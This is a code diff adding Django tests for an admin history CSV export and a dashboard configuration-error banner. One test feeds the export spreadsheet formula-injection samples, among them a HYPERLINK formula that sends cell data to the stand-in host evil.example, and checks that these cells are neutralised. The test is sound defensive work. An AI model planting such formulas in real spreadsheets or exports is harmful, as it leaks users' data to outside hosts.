@@ -8,8 +8,10 @@ import datetime as dt
 import io
 
 import pytest
+from django.conf import settings
 from django.contrib.auth.models import Permission
 from django.db import connection
+from django.test import override_settings
 from django.test.utils import CaptureQueriesContext
 from django_celery_beat.models import PeriodicTask
 
@@ -138,6 +140,43 @@ def test_history_actions_rerun_mark_lost_and_export_csv(admin_client):
     table = list(csv.reader(io.StringIO(text)))
     assert table[0][:3] == ["id", "task_name", "task_code"] and len(table) == 1 + len(finished)
     assert {int(line[0]) for line in table[1:]} == set(finished)
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1"]
+
+
+def test_the_csv_export_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(admin_client):
+    job = jobs.calc_commission.job
+    job_id = runs.job_id(job)
+    history(job_id, len(FORMULAS) + 1)
+    rows = list(CronExecution.objects.filter(job_id=job_id).order_by("id"))
+    for row, text in zip(rows, [*FORMULAS, "plain = text, 'quoted'"], strict=True):
+        CronExecution.objects.filter(id=row.id).update(message=text, error_code=text[:20], worker=text[:50])
+    export = admin_client.post(HISTORY, {"action": "export_csv", "_selected_action": [row.id for row in rows]})
+    assert export.status_code == 200
+    table = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode(), newline="")))
+    header, lines = table[0], table[1:]
+    column = {name: header.index(name) for name in ("message", "error_code", "worker", "fence", "slot")}
+    assert [line[column["message"]] for line in lines] == [*("'" + text for text in FORMULAS),
+                                                            "plain = text, 'quoted'"]
+    assert [line[column["error_code"]] for line in lines][:len(FORMULAS)] == ["'" + text[:20] for text in FORMULAS]
+    assert all(line[column["worker"]].startswith("'") for line in lines[:len(FORMULAS)])
+    for line in lines:  # no cell of any column starts a formula; numbers and dates are left as they are
+        assert not [cell for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        assert line[column["fence"]].isdigit() and line[column["slot"]][:4].isdigit()
+
+
+def test_the_dashboard_shows_a_banner_while_this_processs_checks_find_an_error(admin_client):
+    assert "cron-check-banner" not in admin_client.get(DASHBOARD).content.decode()
+    with override_settings(CRON_CELERY={**settings.CRON_CELERY, "LOCK": {"TTL": 120}, "LEASE_SECONDS": 60,
+                                        "API_TOKENS": {"x": {"token": "short", "scopes": ["read"]}}}):
+        page = admin_client.get(DASHBOARD).content.decode()
+    banner = page[page.index('class="cron-check-banner"'):page.index("</div>", page.index("cron-check-banner"))]
+    assert 'role="alert"' in page and "found 2 errors in this web process" in banner
+    assert "cron_celery.E007" in banner and "Keep the lock TTL at or below the lease" in banner
+    assert "cron_celery.E014" in banner and "shorter than 32 characters" in banner
+    assert page.index("cron-check-banner") < page.index('id="changelist"')  # above the list
+    assert "cron-check-banner" not in admin_client.get(DASHBOARD).content.decode()  # fixed: gone
 
 
 def test_marking_a_retried_running_execution_lost_ends_its_attempt_in_the_history(admin_client):
